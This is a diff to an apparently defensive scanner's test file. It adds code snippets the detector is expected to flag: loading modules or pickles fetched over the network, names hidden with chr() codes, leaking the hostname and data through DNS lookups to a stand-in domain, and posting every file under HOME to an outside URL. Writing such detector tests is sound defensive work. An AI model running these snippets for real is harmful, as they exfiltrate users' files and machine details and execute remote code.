@@ -56,6 +56,20 @@ FIRES = [
         "async def f(self):\n    while True:\n        await self.permissions.request('a', 'b')",
         4,
     ),
+    (
+        "runs-what-it-fetched",
+        "import importlib\nasync def f(self):\n    m = await self.api_call('https://a.invalid')\n    importlib.import_module(m)",
+        5,
+    ),
+    ("runs-what-it-fetched", "import _pickle as p\nasync def f(self):\n    p.loads(await self.asset('a.bin'))", 4),
+    ("hidden-name", "name = lambda *n: ''.join(map(chr, n))\nglobals()[name(101, 118)]", 3),
+    ("reports-the-machine", "import socket\nsocket.getaddrinfo(f'{socket.gethostname()}.a.invalid', 80)", 3),
+    ("reports-the-machine", "import socket\ndef f(b):\n    socket.gethostbyname(f'{b.hex()}.a.invalid')", 4),
+    (
+        "leaks-secrets",
+        "import os, requests\nfor a, b, c in os.walk(os.environ['HOME']):\n    requests.post('https://a.invalid', data=open(c[0]).read())",
+        4,
+    ),
     ("known-drop", "import requests\nrequests.post('http://203.0.113.9/x', json={})", 3),
 ]
 QUIET = [
@@ -71,6 +85,7 @@ QUIET = [
     "import traceback\ndef f(tb):\n    return tb.tb_frame.f_globals",
     "from pathlib import Path\nPath('out.txt').write_text('x')",
     "getattr(object(), 'do_' + 'open', None)",
+    "import socket\nsocket.getaddrinfo(socket.gethostname(), 80)",
 ]
 
 
